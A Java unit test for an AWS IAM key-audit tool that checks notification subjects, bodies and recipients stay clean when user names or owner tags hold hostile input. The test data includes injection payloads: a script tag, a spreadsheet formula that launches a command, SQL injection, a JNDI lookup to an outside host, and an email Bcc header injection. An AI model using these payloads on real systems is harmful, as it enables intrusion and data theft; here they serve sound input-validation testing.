package dev.keywarden.notify;

import static org.assertj.core.api.Assertions.assertThat;

import dev.keywarden.checks.AuditResult;
import dev.keywarden.checks.CheckContext;
import dev.keywarden.checks.CheckRunner;
import dev.keywarden.config.AuditPolicy;
import dev.keywarden.inventory.AccessKeySlot;
import dev.keywarden.inventory.AccountInventory;
import dev.keywarden.inventory.AccountSummary;
import dev.keywarden.inventory.AuthorizationDetails;
import dev.keywarden.inventory.CredentialReport;
import dev.keywarden.inventory.CredentialReportRow;
import dev.keywarden.inventory.IamUser;
import dev.keywarden.inventory.PasswordPolicy;
import dev.keywarden.inventory.ReportColumn;
import dev.keywarden.remediate.DeactivatedKey;
import java.time.Duration;
import java.time.Instant;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile user names and owner tags through the notice planner: a notice must still be one an SNS
 * subject accepts (ASCII, one line, under 100 characters), a body without control characters, and
 * go to a real address or the fallback, never to whatever the tag says.
 */
class NoticeHostileTextTest {
  private static final String ACCOUNT = "123456789012";
  private static final Instant CREATED = Instant.parse("2026-10-01T09:00:00Z");
  private static final String FALLBACK = "security@example.com";

  static Stream<String> hostile() {
    return Stream.of(
        "x".repeat(256),
        "Zoë 李小龍 🙂",
        "a\u0000b\u001b[2Jc\r\nd",
        "\u009b2J\u0085",
        "safe\u202egnp.exe",
        "<script>alert(1)</script>",
        "=cmd|' /C calc'!A0",
        "'; DROP TABLE findings; --",
        "${jndi:ldap://x.example/a}",
        "ops@example.com\nBcc: victim@example.com",
        "<script>@example.com");
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void plan_whenUserNameIsHostile_keepsSubjectBodyAndAttributesClean(String userName) {
    assertClean(plan(userName, "ops@example.com"), "ops@example.com");
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void plan_whenOwnerTagIsHostile_sendsToTheFallbackOwner(String owner) {
    assertClean(plan("svc", owner), FALLBACK);
  }

  private static void assertClean(List<NoticeDraft> drafts, String recipient) {
    assertThat(drafts)
        .isNotEmpty()
        .allSatisfy(
            d -> {
              assertThat(d.recipient()).isEqualTo(recipient);
              assertThat(d.subject()).matches("[\\x20-\\x7e]{1,99}");
              assertThat(d.body())
                  .doesNotContainPattern(
                      "[\\x00-\\x09\\x0b-\\x1f\\x7f-\\x9f\\u202a-\\u202e\\u2066-\\u2069]");
              assertThat(d.attributes())
                  .allSatisfy(
                      (k, v) -> assertThat(v).doesNotContainPattern("[\\x00-\\x1f\\x7f-\\x9f]"));
            });
  }

  private static List<NoticeDraft> plan(String userName, String owner) {
    String arn = "arn:aws:iam::" + ACCOUNT + ":user/" + userName;
    List<AccessKeySlot> slots =
        List.of(
            new AccessKeySlot(1, true, Optional.of(CREATED), Optional.empty()),
            new AccessKeySlot(2, false, Optional.empty(), Optional.empty()));
    CredentialReportRow row =
        new CredentialReportRow(
            userName,
            arn,
            2,
            Optional.of(CREATED),
            false,
            Optional.empty(),
            Optional.of(CREATED),
            true,
            slots);
    IamUser user =
        new IamUser(
            userName,
            arn,
            CREATED,
            Map.of(AuditPolicy.MAX_KEY_AGE_TAG, "30", "owner", owner),
            List.of(),
            List.of(),
            List.of());
    AccountInventory inventory =
        new AccountInventory(
            ACCOUNT,
            CREATED,
            new CredentialReport(EnumSet.allOf(ReportColumn.class), List.of(row), Optional.empty()),
            Optional.of(new AuthorizationDetails(Map.of(userName, user), Map.of())),
            Optional.of(new AccountSummary(true, false, 1)),
            Optional.of(PasswordPolicy.absent()),
            Optional.of(false),
            Optional.empty());
    Instant asOf = CREATED.plus(Duration.ofDays(31));
    AuditResult result = CheckRunner.run(new CheckContext(inventory, AuditPolicy.defaults(), asOf));
    List<DeactivatedKey> deactivated =
        List.of(new DeactivatedKey(userName, 1, arn + "#access_key_1", CREATED, "AKIAEXAMPLE"));
    List<NoticeDraft> drafts =
        NoticePlanner.plan(
            request(inventory, "run-1", asOf).result(result).deactivated(deactivated).build());
    Instant earlier = CREATED.plus(Duration.ofDays(20));
    List<NoticeDraft> rotation =
        NoticePlanner.plan(
            request(inventory, "run-0", earlier)
                .result(
                    CheckRunner.run(new CheckContext(inventory, AuditPolicy.defaults(), earlier)))
                .build());
    return Stream.concat(drafts.stream(), rotation.stream()).toList();
  }

  private static NoticeRequest.Builder request(
      AccountInventory inventory, String runId, Instant asOf) {
    return NoticeRequest.builder()
        .accountId(ACCOUNT)
        .runId(runId)
        .inventory(inventory)
        .stagesDays(List.of(14, 7, 1))
        .fallbackOwner(Optional.of(FALLBACK))
        .ownerTagKeys(AuditPolicy.defaults().ownerTagKeys())
        .asOf(asOf);
  }
}
